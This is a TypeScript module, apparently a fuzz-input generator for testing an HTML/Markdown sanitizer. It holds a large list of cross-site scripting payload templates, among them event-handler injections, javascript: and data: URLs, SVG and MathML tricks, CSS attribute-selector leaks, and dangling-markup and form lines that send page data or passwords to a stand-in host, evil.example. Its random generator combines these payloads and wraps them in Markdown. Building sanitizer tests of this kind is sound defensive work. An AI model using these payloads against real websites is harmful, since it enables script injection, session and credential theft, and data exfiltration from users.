/** Markup that runs: an element, an event, a way to write it down, and what brings the event about. */
import type { Random } from "../random";

export const tags =
  "a abbr acronym address applet area article aside audio b base basefont bdi bdo bgsound big blink blockquote body br button canvas caption center cite code col colgroup command content data datalist dd del details dfn dialog dir div dl dt element em embed fieldset figcaption figure font footer form frame frameset geolocation h1 head header hgroup hr html i iframe image img input ins isindex kbd keygen label legend li link listing main map mark marquee menu menuitem meta meter multicol nav nextid nobr noembed noframes noscript object ol optgroup option output p param picture plaintext portal pre progress q rb rp rt rtc ruby s samp script search section select selectedcontent shadow slot small source spacer span strike strong style sub summary sup svg table tbody td template textarea tfoot th thead time title tr track tt u ul var video wbr xmp math x-own animate animateTransform set use foreignObject image2 desc metadata mtext annotation-xml mglyph maction".split(
    " ",
  );

const events =
  "abort afterprint afterscriptexecute animationcancel animationend animationiteration animationstart auxclick beforecopy beforeinput beforematch beforeprint beforetoggle beforeunload beforexrselect begin blur cancel canplay canplaythrough change click close command contentvisibilityautostatechange contextmenu copy cuechange cut dblclick drag dragend dragenter dragexit dragleave dragover dragstart drop durationchange emptied end ended error focus focusin focusout formdata fullscreenchange gesturestart gotpointercapture hashchange input invalid keydown keypress keyup load loadeddata loadedmetadata loadend loadstart lostpointercapture message mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel pagehide pageshow paste pause play playing pointercancel pointerdown pointerenter pointerleave pointermove pointerout pointerover pointerrawupdate pointerup popstate progress ratechange readystatechange repeat reset resize scroll scrollend scrollsnapchange search securitypolicyviolation seeked seeking select selectionchange selectstart show slotchange stalled storage submit suspend timeupdate toggle touchcancel touchend touchmove touchstart transitioncancel transitionend transitionrun transitionstart unload unhandledrejection volumechange waiting webkitanimationend webkittransitionend wheel".split(
    " ",
  );

/** Attributes that make events come without anybody's doing. */
const helps = [
  "",
  "src=x ",
  "src=!! ",
  "autofocus tabindex=1 ",
  "contenteditable ",
  "open ",
  "style=animation:x ",
  "href=# ",
  "id=x ",
  "hidden=until-found ",
  "popover ",
  "draggable=true ",
  "autoplay controls ",
  "dur=1s attributeName=x ",
  "type=image ",
  "data=!! ",
  "srcdoc=x ",
  "x='<' ",
  "x=\">\" ",
];

const spaces = [" ", " ", " ", "\n", "\t", "/", "\f", " / ", "\r\n"];

const whole = [
  "<script>!js</script>",
  "<script src=!!></script>",
  "<script type=module>!js</script>",
  "<script>!js//",
  "<script/x>!js</script/x>",
  "<script\n>!js</script\n>",
  "<scr<script>ipt>!js</scr</script>ipt>",
  "<script x=\">\">!js</script>",
  "<script>/*</script><img src=x onerror=!js>*/</script>",
  "<script type=speculationrules>{\"prefetch\":[{\"source\":\"list\",\"urls\":[\"!!\"]}]}</script>",
  "<script type=importmap>{\"imports\":{\"x\":\"!!\"}}</script>",
  "<svg><script href=!! /></svg>",
  "<svg><script>!js</script></svg>",
  "<svg><script>&#99;anary(0)</script></svg>",
  "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=!js /></svg>#x'/></svg>",
  "<svg><animate xlink:href=#x attributeName=href values=javascript:!js /><a id=x><text y=20>x</text></a></svg>",
  "<svg><a><animate attributeName=href values=javascript:!js /><text x=20 y=20>x</text></a></svg>",
  "<svg><set attributeName=onmouseover to=!js /></svg>",
  "<svg><image href=!! onerror=!js /></svg>",
  "<svg><foreignObject><iframe srcdoc='<script>!js</script>'></iframe></foreignObject></svg>",
  "<svg><style>@import '!!';</style></svg>",
  "<iframe src=javascript:!js></iframe>",
  "<iframe srcdoc=\"<script>parent.!js</script>\"></iframe>",
  "<iframe srcdoc='&lt;script&gt;!js&lt;/script&gt;'></iframe>",
  "<iframe src='data:text/html,<script>!js</script>'></iframe>",
  "<iframe src=!!></iframe>",
  "<iframe name=top src=//evil.example></iframe>",
  "<fencedframe></fencedframe><portal src=//evil.example></portal>",
  "<object data=javascript:!js></object>",
  "<object data='data:text/html,<script>!js</script>'></object>",
  "<object type=text/html data=!!><embed src=!!></object>",
  "<embed src=javascript:!js>",
  "<embed src='data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload=!js>'>",
  "<applet code=x archive=!!></applet>",
  "<form action=javascript:!js><button>x</button></form>",
  "<form id=x></form><button form=x formaction=javascript:!js>x</button>",
  "<form action=//evil.example><input name=password autofocus><input type=submit></form>",
  "<isindex action=javascript:!js type=image>",
  "<input type=image src=x formaction=javascript:!js onerror=!js>",
  "<base href=//evil.example/>",
  "<base href='javascript:/a/-!js//'><a href=/b>x</a>",
  "<base target=_top>",
  "<meta http-equiv=refresh content='0;url=javascript:!js'>",
  "<meta http-equiv=refresh content='0;url=!!'>",
  "<meta http-equiv=refresh content=\"0; url=data:text/html,<script>!js</script>\">",
  "<meta http-equiv=content-security-policy content=\"script-src 'none'\">",
  "<meta http-equiv=set-cookie content=sid=x>",
  "<meta name=referrer content=unsafe-url>",
  "<link rel=stylesheet href=!!>",
  "<link rel=import href=!!>",
  "<link rel=prefetch href=!!><link rel=preload as=script href=!!><link rel=dns-prefetch href=//evil.example>",
  "<link rel=modulepreload href=!!><link rel=manifest href=!!><link rel=icon href=!!>",
  "<link rel=prerender href=!!><link rel=compression-dictionary href=!!>",
  "<style>@import url(!!);</style>",
  "<style>*{background:url(!!)}</style>",
  "<style>input[value^=a]{background:url(!!)}</style>",
  "<style>body{display:none}</style>",
  "<style>@font-face{font-family:x;src:url(!!)}*{font-family:x}</style>",
  "<style>@keyframes x{}</style><b style=animation-name:x onanimationend=!js>x</b>",
  "<div style='background:url(!!)'>x</div>",
  "<div style='position:fixed;inset:0;z-index:9'>x</div>",
  "<div style=\"width:expression(!js);behavior:url(!!);-moz-binding:url(!!)\">x</div>",
  "<p style=\"--x:url(!!);background:var(--x)\">x</p>",
  "<table background=javascript:!js><td background=!!>x</table>",
  "<video><source onerror=!js></video>",
  "<video poster=javascript:!js></video>",
  "<audio src=!! onerror=!js autoplay></audio>",
  "<picture><source srcset='!! 1x, javascript:!js 2x'><img></picture>",
  "<img srcset='x, javascript:!js 1x' src=x>",
  "<img src=x:x onerror=!js>",
  "<img src=`x`onerror=!js>",
  "<img/src/onerror=!js>",
  "<img src=x onerror\n=\n!js>",
  "<img src=x onerror=\"!js\"//",
  "<img src=x alt='\" onerror=!js '>",
  "<img src='x' title=\"' onerror=!js //\">",
  "<image src=x onerror=!js>",
  "<img usemap=#x><map name=x><area href=javascript:!js shape=rect coords=0,0,99,99></map>",
  "<a href=x ping=!!>x</a>",
  "<a href=# onclick=!js autofocus onfocus=!js>x</a>",
  "<a target=_blank rel=opener href=javascript:!js>x</a>",
  "<a href='x' attributionsrc=!!>x</a><img attributionsrc=!!>",
  "<button popovertarget=x>x</button><p popover id=x onbeforetoggle=!js>x</p>",
  "<button commandfor=x command=show-modal>x</button><dialog id=x>x</dialog>",
  "<details open ontoggle=!js>x</details>",
  "<template shadowrootmode=open><img src=x onerror=!js></template>",
  "<div><template shadowrootmode=open><style>@import '!!'</style><slot></slot></template></div>",
  "<math><mtext href=javascript:!js>x</mtext></math>",
  "<math><maction actiontype=statusline xlink:href=javascript:!js>x</maction></math>",
  "<math href=javascript:!js>x</math>",
  "<marquee onstart=!js loop=1>x</marquee>",
  "<body onload=!js onpageshow=!js onhashchange=!js>",
  "<html manifest=!! onmouseover=!js>",
  "<frameset onload=!js><frame src=javascript:!js></frameset>",
  "<keygen autofocus onfocus=!js>",
  "<bgsound src=!!><layer src=!!></layer><ilayer src=!!></ilayer>",
  "<xml id=x><x><c><![CDATA[<img src=x onerror=!js>]]></c></x></xml><span datasrc=#x datafld=c dataformatas=html></span>",
  "<x-own is=x onclick=!js>x</x-own>",
  "<select><option><style></option></select><img src=x onerror=!js></style>",
  "<input value=x autofocus onfocus=!js><textarea autofocus onfocus=!js></textarea>",
  "<img src=//evil.example/?",
  "<img src='//evil.example/?\n\nand the rest of the page",
  "<a href='//evil.example/?",
  "<textarea name=x>",
  "<button type=submit form=x formaction='//evil.example/?",
  "<noscript><img title='</noscript><img src=x onerror=!js>'></noscript>",
];

export function elements(random: Random): string {
  if (random.below(3) === 0) return around(random.pick(whole), random);
  const [tag, event] = [random.pick(tags), random.pick(events)];
  const space = random.pick(spaces);
  const value = random.pick(["!js", "\"!js\"", "'!js'", "`!js`", "\"!js//", "javascript:!js", "&#99;anary(0)", "\"x:!js\"", "{!js}", "(!js)"]);
  const name = random.pick([`on${event}`, `on${event}`, `on${event}`, `ON${event}`, `on${event} `, `on${event}\n`, `\0on${event}`, `on&#${event.charCodeAt(0)};${event.slice(1)}`, `xmlns:on${event}`, `x="">on${event}`, `data-x='"'on${event}`]);
  const close = random.pick([">x", ">x", `>x</${tag}>`, `></${tag}>`, "/>", " ", "\n", `>x</${tag}`]);
  return around(`<${tag}${space}${random.pick(helps)}${name}=${value}${close}`, random);
}

/** Inside something else, now and then. */
function around(markup: string, random: Random): string {
  const frames: ((it: string) => string)[] = [
    (it) => `text ${it} text`,
    (it) => `<div>\n${it}\n</div>`,
    (it) => `<div>\n\n${it}\n\n</div>`,
    (it) => `> ${it}`,
    (it) => `- ${it}`,
    (it) => `1. > - ${it}`,
    (it) => `| a | b |\n|---|---|\n| ${it} | x |`,
    (it) => `# ${it}`,
    (it) => `**${it}**`,
    (it) => `[${it}](https://example.org)`,
    (it) => `<details><summary>${it}</summary>\n\n${it}\n\n</details>`,
    (it) => `- [ ] ${it}`,
    (it) => `[^a]\n\n[^a]: ${it}`,
    (it) => `term\n: ${it}`,
    (it) => `==${it}==`,
    (it) => `<p>${it}`,
    (it) => `<table><tr><td>${it}`,
  ];
  return random.below(2) === 0 ? markup : random.pick(frames)(markup);
}
